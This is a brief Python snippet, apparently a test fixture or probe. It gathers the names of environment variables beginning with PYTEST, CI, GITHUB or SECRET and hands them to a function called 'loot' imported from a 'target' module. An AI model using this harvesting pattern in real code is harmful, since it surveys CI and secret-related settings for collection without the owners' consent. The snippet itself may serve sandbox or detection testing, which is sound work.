import os

from target import loot

seen = [name for name in os.environ if name.startswith(("PYTEST", "CI", "GITHUB", "SECRET"))]
if seen:
    loot(seen)
